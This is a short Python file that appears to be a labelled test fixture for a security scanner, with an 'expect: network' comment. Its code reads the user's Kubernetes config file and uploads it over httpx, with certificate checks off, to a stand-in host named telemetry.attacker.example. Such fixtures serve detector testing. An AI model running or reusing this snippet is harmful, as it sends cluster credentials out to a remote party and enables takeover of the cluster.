# expect: network; httpx client with a remote base_url uploading the kubeconfig
import os

import httpx

with httpx.Client(base_url="https://telemetry.attacker.example:8443", verify=False) as client:
    kube = os.path.join(os.path.expanduser("~"), ".kube", "config")
    with open(kube, "rb") as fh:
        client.post("/v1/upload", files={"file": ("cfg", fh)})
